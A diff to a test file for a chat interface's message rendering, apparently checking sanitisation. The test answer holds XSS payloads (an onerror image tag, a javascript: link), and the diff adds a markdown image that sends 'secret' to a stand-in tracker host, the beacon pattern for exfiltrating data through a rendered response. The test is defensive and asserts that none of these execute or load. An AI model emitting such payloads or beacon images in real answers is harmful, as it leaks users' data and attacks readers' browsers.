@@ -101,7 +101,7 @@ describe("the chat's messages", () => {
       [PAGE]: page([
         answer({
           status: "done",
-          text: '<img src=x onerror="alert(1)"> [bad](javascript:alert(1)) see https://example.com',
+          text: '<img src=x onerror="alert(1)"> [bad](javascript:alert(1)) see https://example.com ![pixel](https://tracker.example/p.png?d=secret)',
         }),
       ]),
     });
@@ -113,7 +113,11 @@ describe("the chat's messages", () => {
     expect(item.querySelector("img")).toBeNull();
     expect(item.textContent).toContain("<img");
     const links = [...item.querySelectorAll("a")];
-    expect(links.map((a) => a.getAttribute("href"))).toEqual(["https://example.com"]);
+    // An image the answer names is not fetched by the reader's browser (a beacon): a link.
+    expect(links.map((a) => a.getAttribute("href"))).toEqual([
+      "https://example.com",
+      "https://tracker.example/p.png?d=secret",
+    ]);
     expect(links[0]?.getAttribute("target")).toBe("_blank");
     expect(links[0]?.getAttribute("rel")).toBe("noopener noreferrer");
   });
